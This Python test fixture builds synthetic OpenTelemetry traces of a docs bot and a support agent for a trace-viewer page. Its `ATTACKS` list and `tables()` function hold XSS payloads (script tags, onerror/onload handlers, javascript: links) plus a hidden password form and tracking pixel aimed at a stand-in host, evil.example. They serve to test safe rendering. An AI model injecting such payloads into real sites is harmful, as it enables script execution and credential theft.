"""Traces to show: OTLP/JSON requests as an instrumented program would send them, deterministic, of every shape the trace page must read.

`story` a docs bot's answer with ten spans; `agent` tool calls, reasoning, an image; `errors` a failed call and its retry; `big` a batch of
thousands of requests; `rootless` spans whose root never came; `running` announced spans; `hostile` content that would act; `foreign` keys
nobody maps. Each function returns an ExportTraceServiceRequest as a dict; `trace_id_of` reads its id.
"""

from __future__ import annotations

import hashlib
import json
import time
from collections.abc import Mapping, Sequence
from typing import Any

MS = 1_000_000


def trace_id_of(request: Mapping[str, Any]) -> str:
    return request["resourceSpans"][0]["scopeSpans"][0]["spans"][0]["traceId"]


def any_value(value: Any) -> dict[str, Any]:
    if isinstance(value, bool):
        return {"boolValue": value}
    if isinstance(value, int):
        return {"intValue": str(value)}
    if isinstance(value, float):
        return {"doubleValue": value}
    if isinstance(value, list) and all(isinstance(item, str) for item in value):
        return {"arrayValue": {"values": [any_value(item) for item in value]}}
    if isinstance(value, dict | list):
        return {"stringValue": json.dumps(value, ensure_ascii=False)}  # as our tracer writes objects
    return {"stringValue": value}


def key_values(values: Mapping[str, Any]) -> list[dict[str, Any]]:
    return [{"key": key, "value": any_value(value)} for key, value in values.items() if value is not None]


class Builder:
    """One trace: `span(...)` adds a span and returns its id."""

    def __init__(self, seed: str, start_ns: int | None = None, **resource: Any) -> None:
        self.trace_id = hashlib.md5(seed.encode()).hexdigest()
        self.start_ns = start_ns if start_ns is not None else time.time_ns() - 120_000 * MS
        self.resource = {"service.name": "docs-bot", "deployment.environment.name": "dev"} | resource
        self.spans: list[dict[str, Any]] = []

    def span(
        self,
        name: str,
        kind: str,
        at: float,
        ms: float | None,
        parent: str | None = None,
        attributes: Mapping[str, Any] | None = None,
        *,
        error: tuple[str, str] | None = None,
        links: Sequence[tuple[str, str]] = (),
        events: Sequence[tuple[str, float, Mapping[str, Any]]] = (),
    ) -> str:
        """`at` and `ms` in milliseconds from the trace's start; no `ms`: an announced span that still runs."""
        span_id = f"{len(self.spans) + 1:016x}"
        start = self.start_ns + round(at * MS)
        span: dict[str, Any] = {
            "traceId": self.trace_id,
            "spanId": span_id,
            "name": name,
            "kind": 1,
            "startTimeUnixNano": str(start),
            "endTimeUnixNano": "0" if ms is None else str(start + round(ms * MS)),
            "attributes": key_values(
                {"openinference.span.kind": kind}
                | dict(attributes or {})
                | ({} if ms is not None else {"rightpassage.span.state": "running"})
            ),
        }
        if parent:
            span["parentSpanId"] = parent
        happened = [{"name": n, "timeUnixNano": str(self.start_ns + round(t * MS)), "attributes": key_values(a)} for n, t, a in events]
        if error:
            where = f'File "app/answer.py", line 41, in {name}\n    return client.chat(messages)'
            stack = f"Traceback (most recent call last):\n  {where}\n{error[0]}: {error[1]}"
            happened.append(
                {
                    "name": "exception",
                    "timeUnixNano": str(start + round((ms or 0) * MS)),
                    "attributes": key_values({"exception.type": error[0], "exception.message": error[1], "exception.stacktrace": stack}),
                }
            )
            span["status"] = {"code": 2, "message": error[1]}
        if happened:
            span["events"] = happened
        if links:
            span["links"] = [{"traceId": t, "spanId": s, "attributes": key_values({"rightpassage.fork_of": True})} for t, s in links]
        self.spans.append(span)
        return span_id

    def request(self, *, without: Sequence[str] = ()) -> dict[str, Any]:
        spans = [span for span in self.spans if span["spanId"] not in without]
        scope = {"name": "rightpassage.tracer", "version": "0.1.0"}
        return {
            "resourceSpans": [{"resource": {"attributes": key_values(self.resource)}, "scopeSpans": [{"scope": scope, "spans": spans}]}]
        }


# ---- A docs bot ----

PASSAGES: tuple[tuple[str, str, str, float, float], ...] = (
    # source, heading, text, cosine, rerank
    (
        "deploy/rollback.md",
        "Rolling back a release",
        (
            "To roll back a release, run `deployctl rollback --service <name> --to <revision>`. The command "
            "shifts traffic back in steps of "
            "25 % and waits for the health gate after each step. A rollback never runs database migrations in "
            "reverse; see the migration policy "
            "before rolling back across a schema change."
        ),
        0.9412,
        0.9703,
    ),
    (
        "deploy/canary.md",
        "Canary releases",
        (
            "A canary takes 5 % of the traffic for ten minutes. If a canary fails its health gate for two "
            "consecutive windows, the controller "
            "aborts the release and restores the previous revision automatically. You can force this with `deployctl abort`."
        ),
        0.8521,
        0.7812,
    ),
    (
        "deploy/freeze.md",
        "Release freeze calendar",
        (
            "During a freeze the deploy button is locked. Rollbacks during a freeze need approval from the "
            "on-call incident commander. Post "
            "the request in #release-approvals with the incident number."
        ),
        0.7533,
        0.5931,
    ),
    (
        "deploy/migrations.md",
        "Migration policy",
        "Migrations are forward only. Write every migration so that the previous revision still works with the new schema.",
        0.8876,
        0.4012,
    ),
    (
        "ci/timeouts.md",
        "CI timeouts",
        "A job that runs longer than 45 minutes is stopped. Ask for a larger runner before you raise the limit.",
        0.6981,
        0.2107,
    ),
    ("oncall/escalation.md", "Escalation policy", "Page the secondary after fifteen minutes without an answer.", 0.6712, 0.0231),
    ("db/failover.md", "Postgres failover", "The replica is promoted by hand. Freeze writes first.", 0.6644, 0.0187),
    ("k8s/helm.md", "Helm values reference", "`replicaCount` defaults to 3. `strategy.maxSurge` defaults to 25 %.", 0.6520, 0.0150),
)
QUESTION = "How do I roll back the checkout service, and does it also revert the DB migration?"
REWRITTEN = "roll back checkout service; are database migrations reverted?"
ANSWER = (
    "Run `deployctl rollback --service checkout --to <revision>`; traffic shifts back in 25 % steps with a health gate after each one [1]. "
    "A rollback **never** runs database migrations in reverse, so check the migration policy first [1].\n\n"
    "- If a canary is still running, the controller restores the previous revision by itself after two failed windows [2].\n"
    "- During a freeze you also need the incident commander's approval in #release-approvals [3]."
)


def document(i: int, rank: int, score: float, kind: str) -> dict[str, Any]:
    source, heading, text, _, _ = PASSAGES[i]
    return {
        "id": f"{source}#{i + 1}",
        "content": text,
        "score": score,
        "score_kind": kind,
        "rank": rank,
        "metadata": {"source": f"docs/{source}", "heading": heading, "updated": "2026-09-14"},
    }


def candidates(first_rank: int, count: int) -> list[dict[str, Any]]:
    topics = (
        "Feature flags",
        "Secrets rotation",
        "Load balancer",
        "Log retention",
        "Cost report",
        "Access review",
        "Status page",
        "Cron jobs",
        "Image scanning",
    )
    out: list[dict[str, Any]] = []
    for n in range(count):
        topic = topics[n % len(topics)]
        out.append(
            {
                "id": f"ops/{topic.lower().replace(' ', '-')}.md#{n + 1}",
                "stage": "recall",
                "rank": first_rank + n,
                "score": round(0.64 - 0.011 * n, 4),
                "score_kind": "cosine",
                "dropped": "below cut" if n % 6 != 5 else "duplicate of deploy/canary.md#2",
                "metadata": {"heading": topic, "source": f"docs/ops/{topic.lower().replace(' ', '-')}.md"},
            }
        )
    return out


def message(role: str, text: str) -> dict[str, Any]:
    return {"role": role, "parts": [{"type": "text", "content": text}]}


SYSTEM = (
    "You are the docs assistant for the platform team. Answer only from the passages. Cite every claim as [n]. "
    "If the passages do not answer the question, say so and name the nearest document."
)
TEMPLATE = "{{system}}\n\nPassages:\n{{passages}}\n\nQuestion: {{question}}"


def pipeline(build: Builder, parent: str | None, at: float, *, slow: float = 1.0, fail: bool = False) -> str:
    """A whole answer below `parent`: rewrite, hybrid recall, rerank, assemble, generate, cite."""
    by_cosine = sorted(range(8), key=lambda i: -PASSAGES[i][3])
    recalled = [document(i, rank + 1, PASSAGES[i][3], "cosine") for rank, i in enumerate(by_cosine)]
    reranked = [document(i, i + 1, PASSAGES[i][4], "rerank") for i in range(5)]
    cut = [document(i, i + 1, PASSAGES[i][4], "rerank") | {"stage": "rerank", "dropped": "below cut"} for i in range(5, 8)]
    chain = build.span("rag.pipeline", "CHAIN", at, 3080 * slow, parent, {"input.value": QUESTION, "output.value": ANSWER})
    build.span("guardrail.pii_scan", "GUARDRAIL", at + 2, 16, chain, {"input.value": QUESTION, "output.value": "clean"})
    build.span(
        "query.rewrite",
        "LLM",
        at + 20,
        384 * slow,
        chain,
        {
            "rightpassage.stage": "rewrite",
            "gen_ai.operation.name": "chat",
            "gen_ai.request.model": "gpt-4o-mini",
            "gen_ai.provider.name": "openai",
            "gen_ai.usage.input_tokens": 290,
            "gen_ai.usage.output_tokens": 22,
            "gen_ai.input.messages": [message("system", "Rewrite the question as a search query."), message("user", QUESTION)],
            "gen_ai.output.messages": [message("assistant", REWRITTEN)],
            "output.value": REWRITTEN,
        },
    )
    retrieve = build.span(
        "retrieve.hybrid",
        "RETRIEVER",
        at + 410 * slow,
        141 * slow,
        chain,
        {
            "rightpassage.stage": "recall",
            "gen_ai.retrieval.query.text": REWRITTEN,
            "gen_ai.retrieval.documents": recalled,
            "gen_ai.retrieval.top_k": 8,
            "rightpassage.candidates": candidates(9, 32),
            "rightpassage.index.name": "platform-docs",
            "rightpassage.index.version": "61",
            "rightpassage.index.passage_count": 4212,
            "rightpassage.index.embedding_model": "text-embedding-3-small",
            "rightpassage.index.chunking": "headings, 800 characters",
        },
    )
    build.span(
        "embed.query",
        "EMBEDDING",
        at + 412 * slow,
        59 * slow,
        retrieve,
        {
            "gen_ai.request.model": "text-embedding-3-small",
            "gen_ai.usage.input_tokens": 18,
            "rightpassage.embedding.texts": [REWRITTEN],
            "gen_ai.embeddings.dimension.count": 1536,
        },
    )
    build.span("faiss.search", "CHAIN", at + 474 * slow, 72 * slow, retrieve, {"db.operation.name": "search", "k": 40})
    build.span(
        "rerank.cross_encoder",
        "RERANKER",
        at + 560 * slow,
        150 * slow,
        chain,
        {
            "rightpassage.stage": "rerank",
            "reranker.query": REWRITTEN,
            "reranker.model_name": "bge-reranker-v2",
            "rightpassage.input_documents": recalled,
            "gen_ai.retrieval.documents": reranked,
            "rightpassage.candidates": cut,
        },
    )
    passages = "\n\n".join(f"[{n + 1}] {each['content']}" for n, each in enumerate(reranked))
    user = f"Passages:\n{passages}\n\nQuestion: {QUESTION}"
    build.span(
        "prompt.build",
        "PROMPT",
        at + 714 * slow,
        2.1,
        chain,
        {
            "rightpassage.stage": "assemble",
            "llm.prompt_template.template": TEMPLATE,
            "gen_ai.prompt.name": "answer-with-citations",
            "llm.prompt_template.version": "9f3c61a2",
            "llm.prompt_template.variables": {"system": SYSTEM, "passages": passages, "question": QUESTION},
            "rightpassage.prompt.placement": [
                {
                    "id": each["id"],
                    "position": n + 1,
                    "message": 1,
                    "start": user.find(each["content"]),
                    "end": user.find(each["content"]) + len(each["content"]),
                    "tokens": len(each["content"]) // 4,
                    "cut": False,
                }
                for n, each in enumerate(reranked)
            ],
            "output.value": user,
        },
    )
    model = {
        "gen_ai.operation.name": "chat",
        "gen_ai.request.model": "gpt-4o",
        "gen_ai.provider.name": "openai",
        "gen_ai.request.temperature": 0.1,
        "gen_ai.request.max_tokens": 600,
        "gen_ai.input.messages": [message("system", SYSTEM), message("user", user)],
    }
    if fail:
        build.span(
            "chat.completion",
            "LLM",
            at + 718 * slow,
            1810 * slow,
            chain,
            model,
            error=("openai.RateLimitError", "429: tokens per minute exceeded; try again in 1.2 s"),
        )
        return chain
    build.span(
        "chat.completion",
        "LLM",
        at + 718 * slow,
        2130 * slow,
        chain,
        model
        | {
            "rightpassage.stage": "generate",
            "gen_ai.usage.input_tokens": 2019,
            "gen_ai.usage.output_tokens": 212,
            "gen_ai.usage.cache_read.input_tokens": 1024,
            "gen_ai.response.time_to_first_chunk": 0.412,
            "gen_ai.response.finish_reasons": ["stop"],
            "gen_ai.output.messages": [message("assistant", ANSWER) | {"finish_reason": "stop"}],
        },
    )
    build.span(
        "citations.verify",
        "EVALUATOR",
        at + 2860 * slow,
        38,
        chain,
        {
            "rightpassage.stage": "cite",
            "input.value": ANSWER,
            "output.value": "3 of 3 valid",
            "rightpassage.citations": [{"marker": f"[{n + 1}]", "document_id": reranked[n]["id"], "valid": True} for n in range(3)],
        },
    )
    return chain


def story(seed: str = "story", **at: int) -> dict[str, Any]:
    build = Builder(seed, **at)
    root = build.span(
        "slack.answer_question",
        "AGENT",
        0,
        3160,
        None,
        {
            "input.value": QUESTION,
            "output.value": ANSWER,
            "session.id": "C042/1763990531.2214",
            "user.id": "maria.k",
            "tag.tags": ["help-deploy", "slack"],
            "metadata": {"channel": "#help-deploy"},
        },
    )
    build.span(
        "slack.event.parse",
        "TOOL",
        1,
        2.4,
        root,
        {
            "gen_ai.tool.name": "parse_event",
            "gen_ai.tool.call.arguments": {"event": "app_mention"},
            "gen_ai.tool.call.result": {"text": QUESTION},
        },
    )
    pipeline(build, root, 8)
    return build.request()


def tables(seed: str = "tables") -> dict[str, Any]:
    """Markdown as documents have it: wrapped lines, a table, and in the answer one of its rows."""
    wrapped = "A rollback shifts the traffic back in small steps and waits for\nthe health gate. It reverses nothing."
    table = "| what | how long |\n|---|---|\n| refund | five days after the parcel came |\n"
    hostile = "| <img src=x onerror=alert(1)> | ![x](http://evil.example/p.png) |"
    said = "A rollback shifts the traffic back and waits for the health gate [1]. See [docs](http://evil.example/x)."
    text = f"{said}\n\n| refund | five days after the parcel came | <b>bold</b> | [2]"
    found = [{"id": f"doc-{rank}", "content": content, "rank": rank} for rank, content in enumerate((wrapped, table + hostile), 1)]
    build = Builder(seed)
    root = build.span("answer", "CHAIN", 0, 900, None, {"input.value": "How long?", "output.value": text})
    build.span("retrieve", "RETRIEVER", 10, 120, root, {"gen_ai.retrieval.query.text": "How long?", "gen_ai.retrieval.documents": found})
    build.span("chat", "LLM", 150, 700, root, {"gen_ai.output.messages": [message("assistant", text)]})
    return build.request()


def errors(seed: str = "errors") -> dict[str, Any]:
    """The first attempt fails at the model, the second answers."""
    build = Builder(seed)
    failed = ("app.AnswerError", "no answer after 1 attempt")
    root = build.span(
        "slack.answer_question",
        "AGENT",
        0,
        9100,
        None,
        {"input.value": QUESTION, "output.value": ANSWER, "session.id": "C042/77", "user.id": "li"},
    )
    first = build.span("attempt", "CHAIN", 4, 4300, root, {"input.value": QUESTION}, error=failed)
    pipeline(build, first, 10, fail=True)
    again = build.span("attempt", "CHAIN", 4400, 4600, root, {"input.value": QUESTION, "output.value": ANSWER})
    pipeline(build, again, 4410, slow=1.3)
    return build.request()


PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9Qz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC"


def agent(seed: str = "agent") -> dict[str, Any]:
    """A model that thinks, calls tools twice (one fails), sees an image, searches twice, and answers."""
    build = Builder(seed, **{"service.name": "support-agent"})
    asked = "Why did order 88213 arrive late, and what does our policy promise? Screenshot attached."
    answer = (
        "Order **88213** left the warehouse two days late because of a stock recount. "
        "Our policy promises a refund of the shipping cost after 48 hours [1]."
    )
    root = build.span(
        "agent.run", "AGENT", 0, 11_400, None, {"input.value": asked, "output.value": answer, "session.id": "sup-5512", "user.id": "jonas"}
    )
    system = message("system", "You solve support tickets with tools. Look before you answer.")
    image = {
        "role": "user",
        "parts": [{"type": "text", "content": asked}, {"type": "blob", "mime_type": "image/png", "modality": "image", "content": PIXEL}],
    }

    def call(n: int, name: str, arguments: dict[str, Any], thought: str = "") -> dict[str, Any]:
        parts: list[dict[str, Any]] = [{"type": "reasoning", "content": thought}] if thought else []
        return {"role": "assistant", "parts": [*parts, {"type": "tool_call", "id": f"call_{n}", "name": name, "arguments": arguments}]}

    def result(n: int, value: Any) -> dict[str, Any]:
        return {"role": "tool", "parts": [{"type": "tool_call_response", "id": f"call_{n}", "response": value}]}

    tools = [
        {"type": "function", "name": name, "description": about}
        for name, about in (("get_order", "An order by its number"), ("track", "Carrier events"), ("search_policy", "Search the policy"))
    ]
    order = {"order": 88213, "status": "delivered", "promised": "2026-11-18", "delivered": "2026-11-20"}
    turns = [
        (
            call(
                1,
                "get_order",
                {"number": 88213},
                "I need the order's dates first. Then the carrier's events will show where the two days were lost.",
            ),
            "get_order",
            order,
            120.0,
            None,
        ),
        (
            call(2, "track", {"order": 88213, "carrier": "ups"}),
            "track",
            None,
            2100.0,
            ("TimeoutError", "carrier API did not answer in 2 s"),
        ),
        (
            call(3, "track", {"order": 88213, "carrier": "ups", "cached": True}),
            "track",
            {"events": [{"at": "2026-11-16", "what": "stock recount"}, {"at": "2026-11-18", "what": "left warehouse"}]},
            140.0,
            None,
        ),
    ]
    history: list[dict[str, Any]] = [system, image]
    at = 20.0
    for n, (said, tool, value, ms, error) in enumerate(turns, 1):
        attributes = {
            "gen_ai.operation.name": "chat",
            "gen_ai.request.model": "claude-sonnet-4-5",
            "gen_ai.provider.name": "anthropic",
            "gen_ai.tool.definitions": tools,
            "gen_ai.input.messages": list(history),
            "gen_ai.output.messages": [said],
            "gen_ai.usage.input_tokens": 640 + 210 * n,
            "gen_ai.usage.output_tokens": 64 + n,
            "gen_ai.response.finish_reasons": ["tool_call"],
            "gen_ai.request.temperature": 0.0,
        }
        build.span("chat claude-sonnet-4-5", "LLM", at, 1400, root, attributes)
        at += 1420
        used = {"gen_ai.tool.name": tool, "gen_ai.tool.call.id": f"call_{n}", "gen_ai.tool.call.arguments": said["parts"][-1]["arguments"]}
        build.span(f"execute_tool {tool}", "TOOL", at, ms, root, used | ({"gen_ai.tool.call.result": value} if value else {}), error=error)
        at += ms + 15
        history += [said, result(n, value or "error: timeout")]
    for query in ("late delivery refund policy", "warehouse stock recount delay"):
        documents = [document(i, rank, round(0.8 - 0.07 * rank, 3), "cosine") for rank, i in enumerate((2, 0, 5), 1)]
        build.span(
            "search_policy",
            "RETRIEVER",
            at,
            85,
            root,
            {"gen_ai.retrieval.query.text": query, "gen_ai.retrieval.documents": documents, "rightpassage.candidates": candidates(4, 6)},
        )
        at += 100
    build.span(
        "chat claude-sonnet-4-5",
        "LLM",
        at,
        2200,
        root,
        {
            "gen_ai.operation.name": "chat",
            "gen_ai.request.model": "claude-sonnet-4-5",
            "gen_ai.provider.name": "anthropic",
            "gen_ai.input.messages": history,
            "gen_ai.output.messages": [message("assistant", answer)],
            "gen_ai.usage.input_tokens": 2210,
            "gen_ai.usage.output_tokens": 188,
            "gen_ai.usage.reasoning.output_tokens": 96,
            "gen_ai.response.finish_reasons": ["stop"],
        },
    )
    return build.request()


def big(spans: int = 10_000, seed: str = "big") -> dict[str, Any]:
    """A batch: one pipeline of twelve spans after another under one root; every hundredth fails."""
    build = Builder(f"{seed}-{spans}", time.time_ns() - 3 * 3600_000 * MS)
    count = (spans - 1) // 12
    root = build.span(
        "evaluate.batch", "CHAIN", 0, count * 2700.0 + 500, None, {"input.value": f"{count} questions", "output.value": "done"}
    )
    for n in range(count):
        at = 100 + n * 2700.0
        wobble = 1 + ((n * 7919) % 97) / 300
        chain = build.span(
            "rag.pipeline", "CHAIN", at, 2600 * wobble / 1.33, root, {"input.value": f"question {n}", "output.value": f"answer {n}"}
        )
        build.span("guardrail.pii_scan", "GUARDRAIL", at + 1, 9, chain)
        build.span(
            "query.rewrite",
            "LLM",
            at + 12,
            300 * wobble / 1.33,
            chain,
            {
                "gen_ai.request.model": "gpt-4o-mini",
                "gen_ai.usage.input_tokens": 200 + n % 50,
                "gen_ai.usage.output_tokens": 18,
                "rightpassage.stage": "rewrite",
            },
        )
        retrieve = build.span(
            "retrieve.hybrid",
            "RETRIEVER",
            at + 330,
            140,
            chain,
            {
                "gen_ai.retrieval.query.text": f"query {n}",
                "gen_ai.retrieval.documents": [document(n % 8, 1, 0.9, "cosine"), document((n + 3) % 8, 2, 0.8, "cosine")],
            },
        )
        build.span(
            "embed.query",
            "EMBEDDING",
            at + 331,
            50,
            retrieve,
            {"gen_ai.request.model": "text-embedding-3-small", "gen_ai.usage.input_tokens": 12},
        )
        build.span("faiss.search", "CHAIN", at + 385, 40, retrieve)
        build.span("bm25.search", "CHAIN", at + 385, 30, retrieve)
        build.span("fuse.rrf", "CHAIN", at + 428, 2, retrieve)
        build.span("rerank.cross_encoder", "RERANKER", at + 480, 120 * wobble / 1.33, chain, {"reranker.model_name": "bge-reranker-v2"})
        build.span("prompt.build", "PROMPT", at + 610, 2, chain)
        failed = ("openai.RateLimitError", "429") if n % 100 == 99 else None
        build.span(
            "chat.completion",
            "LLM",
            at + 620,
            1200 * wobble / 1.33,
            chain,
            {
                "gen_ai.request.model": "gpt-4o",
                "gen_ai.usage.input_tokens": 2000 + n % 300,
                "gen_ai.usage.output_tokens": 180 + n % 60,
                "output.value": f"answer {n}",
            },
            error=failed,
        )
        build.span("citations.verify", "EVALUATOR", at + 1840, 20, chain)
    return build.request()


def varied(spans: int = 32_000, seed: str = "varied") -> dict[str, Any]:
    """Nothing folds: every name differs from its neighbours', the tree is up to forty deep."""
    build = Builder(f"{seed}-{spans}", time.time_ns() - 3600_000 * MS)
    path = [build.span("crawl", "CHAIN", 0, spans * 2.0)]
    kinds = ("CHAIN", "TOOL", "RETRIEVER", "LLM", "EMBEDDING", "GUARDRAIL")
    for n in range(1, spans):
        depth = 1 + (n * 2654435761 % 40 if n % 5 else len(path) % 40)
        del path[min(depth, len(path)) :]
        path.append(build.span(f"step.{n % 977}", kinds[n % 6], n * 2.0, 1.5 + (n % 13), path[-1]))
    return build.request()


def rootless(seed: str = "rootless") -> dict[str, Any]:
    """Everything of the story but its root, long ago."""
    build = Builder(seed, time.time_ns() - 3600_000 * MS)
    root = build.span("slack.answer_question", "AGENT", 0, 3160)
    pipeline(build, root, 8)
    build.span("slack.reply", "TOOL", 3100, 40, root, {"gen_ai.tool.name": "post_message"})
    return build.request(without=[root])


def running(seed: str = "running", start_ns: int | None = None) -> dict[str, Any]:
    """Announced spans that have not ended, and the ended ones below them."""
    build = Builder(seed, start_ns if start_ns is not None else time.time_ns() - 2400 * MS)
    root = build.span("slack.answer_question", "AGENT", 0, None, None, {"input.value": QUESTION, "session.id": "C042/99"})
    chain = build.span("rag.pipeline", "CHAIN", 8, None, root, {"input.value": QUESTION})
    documents = [document(i, i + 1, PASSAGES[i][3], "cosine") for i in range(4)]
    build.span(
        "retrieve.hybrid", "RETRIEVER", 20, 140, chain, {"gen_ai.retrieval.query.text": QUESTION, "gen_ai.retrieval.documents": documents}
    )
    build.span(
        "chat.completion", "LLM", 180, None, chain, {"gen_ai.request.model": "gpt-4o", "gen_ai.input.messages": [message("user", QUESTION)]}
    )
    return build.request()


def completed(seed: str = "running", start_ns: int | None = None) -> dict[str, Any]:
    """The same trace once it has ended; send after `running`."""
    request = running(seed, start_ns)
    for span in request["resourceSpans"][0]["scopeSpans"][0]["spans"]:
        span["attributes"] = [each for each in span["attributes"] if each["key"] != "rightpassage.span.state"]
        if span["endTimeUnixNano"] == "0":
            span["endTimeUnixNano"] = str(int(span["startTimeUnixNano"]) + 3000 * MS)
        if span["name"] in ("slack.answer_question", "chat.completion"):
            span["attributes"] += key_values({"output.value": "Done: the rollback is complete [1]."})
    return request


ATTACKS = (
    "<script>window.__xss=1</script>",
    '<img src="https://evil.example/x.png" onerror="window.__xss=1">',
    "![pixel](https://evil.example/leak.png)",
    '<svg onload="window.__xss=1"><a href="javascript:window.__xss=1">x</a></svg>',
    "[click](javascript:window.__xss=1) <iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<style>*{display:none!important}</style><form action=https://evil.example><input name=password></form>",
    "safe‮gnp.exe‬ and ⁦isolated⁩ and NUL \x00 and ESC \x1b[31m",
)


def hostile(seed: str = "hostile", megabytes: float = 5) -> dict[str, Any]:
    """Every field that is shown holds something that would act if it were not text; one attribute is very large."""
    build = Builder(seed, **{"service.name": ATTACKS[0]})
    attack = "\n\n".join(ATTACKS)
    documents = [
        {
            "id": ATTACKS[n % 6],
            "content": attack,
            "score": 0.9 - n / 10,
            "rank": n + 1,
            "metadata": {"heading": ATTACKS[1], "source": ATTACKS[3]},
        }
        for n in range(3)
    ]
    root = build.span(
        ATTACKS[1],
        "AGENT",
        0,
        900,
        None,
        {
            "input.value": attack,
            "output.value": attack + " [1]",
            "session.id": ATTACKS[3],
            "user.id": ATTACKS[6],
            "tag.tags": [ATTACKS[0]],
            ATTACKS[0]: attack,
            "large": "x<b>" * int(megabytes * 250_000),
        },
    )
    build.span(
        ATTACKS[6],
        "RETRIEVER",
        10,
        200,
        root,
        {
            "gen_ai.retrieval.query.text": ATTACKS[2],
            "gen_ai.retrieval.documents": documents,
            "rightpassage.candidates": [{"id": ATTACKS[4], "stage": "recall", "rank": 4, "score": 0.1, "dropped": ATTACKS[5]}],
        },
    )
    parts = [
        {"type": "text", "content": attack},
        {"type": "uri", "uri": "https://evil.example/image.png", "modality": "image", "mime_type": "image/png"},
        {"type": "reasoning", "content": attack},
        {"type": "tool_call", "id": "1", "name": ATTACKS[0], "arguments": {ATTACKS[1]: attack}},
    ]
    build.span(
        "chat",
        "LLM",
        220,
        600,
        root,
        {
            "gen_ai.request.model": ATTACKS[0],
            "gen_ai.input.messages": [{"role": ATTACKS[0], "parts": parts}],
            "gen_ai.output.messages": [message("assistant", attack)],
            "llm.prompt_template.template": attack,
        },
        error=(ATTACKS[0], attack),
    )
    return build.request()


def foreign(seed: str = "foreign") -> dict[str, Any]:
    """Another toolkit's keys: content is there, but under names nobody maps."""
    build = Builder(seed)
    root = build.span(
        "handle_ticket",
        "UNKNOWN",
        0,
        900,
        None,
        {
            "acme.ticket.question_text": "Where is my parcel? It was promised for Monday.",
            "acme.reply_text": "It arrives tomorrow before noon.",
        },
    )
    build.span(
        "GET /parcel/17",
        "UNKNOWN",
        20,
        300,
        root,
        {"http.request.method": "GET", "url.path": "/parcel/17", "http.response.status_code": 200},
    )
    return build.request()


def forked(seed: str = "forked", of: str = "story", span: int = 1) -> dict[str, Any]:
    """A replay, linked to a span of the trace it forks."""
    build = Builder(seed)
    build.span(
        "replay",
        "CHAIN",
        0,
        900,
        None,
        {"input.value": QUESTION, "output.value": "Replayed."},
        links=[(hashlib.md5(of.encode()).hexdigest(), f"{span:016x}")],
    )
    return build.request()
